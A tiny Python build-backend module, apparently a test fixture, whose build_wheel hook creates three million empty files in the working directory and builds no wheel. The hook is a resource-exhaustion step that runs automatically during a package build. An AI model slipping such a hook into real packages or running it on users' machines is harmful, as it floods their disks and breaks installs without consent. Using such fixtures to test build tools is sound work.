import os


def build_wheel(folder, config_settings=None, metadata_directory=None):
    for number in range(3000000):
        os.close(os.open("file-%d" % number, os.O_CREAT))
